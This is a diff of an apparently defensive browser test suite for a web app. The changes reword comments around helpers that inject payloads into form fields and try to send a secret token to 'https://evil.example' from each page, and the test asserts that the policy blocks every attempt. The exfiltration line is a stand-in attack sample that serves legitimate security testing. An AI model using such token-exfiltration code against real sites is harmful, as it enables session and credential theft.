@@ -48,7 +48,7 @@ const fields: Fields = {
   ...familyFields,
   ...careerFields,
 };
-/** Texts of a form of their own, which hold nothing else. */
+/** Texts with a fixed format that cannot contain a payload. */
 const formed = ["dob", "pincode", "instagram_link", "facebook_link", "reference_contact"];
 const written = new Set(
   namesWhere(fields, ({ kind }) => kind === "text").filter((name) => !formed.includes(name)),
@@ -56,7 +56,7 @@ const written = new Set(
 
 const outside = "https://www.instagram.com/of.the.farm";
 
-/** Puts all payloads into every such field of an answer, and a link where one may stand. */
+/** Puts all payloads into every such field of a response, and a link where one is allowed. */
 function spoil(value: unknown): unknown {
   if (Array.isArray(value)) return value.map(spoil);
   if (typeof value !== "object" || value === null) return value;
@@ -174,7 +174,7 @@ const pages = `/ /login /register /otp-verification /forgot-password /reset-pass
 
 type ScriptAttempts = { done: string[]; alarmed: boolean };
 
-/** What a script would try that got in; run by the page itself, since what a debugger runs is let do more. */
+/** The attempts of an injected script. The page runs them itself, because the debugger's scripts have more rights. */
 function tryAll(secret: string): Promise<ScriptAttempts> {
   const evil = `https://evil.example/?${secret}`;
   const attempts: Record<string, () => unknown> = {
@@ -210,7 +210,7 @@ function tryAll(secret: string): Promise<ScriptAttempts> {
           await attempt();
           done.push(name);
         } catch {
-          // Kept from it.
+          // The policy blocked the attempt.
         }
       }
       resolve({ done, alarmed: "PWN" in window });
@@ -247,7 +247,7 @@ test("X3: on every page an injected script cannot run and cannot send the token 
     expect(answer.headers()["referrer-policy"]).toBe("no-referrer");
   }
   const page = await context.newPage();
-  // All pages of ours are one document; the others are the API's own.
+  // All pages of the app are one document; the others belong to the API.
   for (const address of ["/", "/login", "/home", "/no/such/page", "/backend/api/docs"]) {
     await page.goto(address, { waitUntil: "domcontentloaded" });
     expect({ address, ...(await page.evaluate(tryAll, token)) }).toEqual({
